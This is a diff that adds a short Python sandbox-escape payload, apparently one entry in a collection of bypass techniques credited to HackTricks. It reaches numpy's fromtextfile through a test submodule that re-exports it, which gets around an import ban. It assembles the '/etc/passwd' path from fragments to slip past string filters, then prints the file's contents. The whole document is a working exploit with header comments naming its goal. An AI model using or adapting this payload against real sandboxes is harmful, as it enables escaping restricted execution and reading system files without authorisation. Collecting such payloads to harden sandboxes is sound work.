@@ -1,0 +1,8 @@
+# source: HackTricks 'Bypass Python sandboxes' (borrow a dangerous import from another module's namespace); numpy/ma/tests/test_mrecords.py imports numpy.ma.mrecords.fromtextfile (opens any path)
+# family: unlisted test submodule re-exports a function of an excluded module (numpy.ma.mrecords.fromtextfile)
+# goal: read /etc/passwd
+from numpy.ma.tests import test_mrecords as t
+P = "/".join(["", "etc", "passwd"])
+r = t.fromtextfile(P, delimiter=":", varnames=["user", "pw", "uid", "gid", "gecos", "home", "shell"])
+for row in r:
+    print(row)
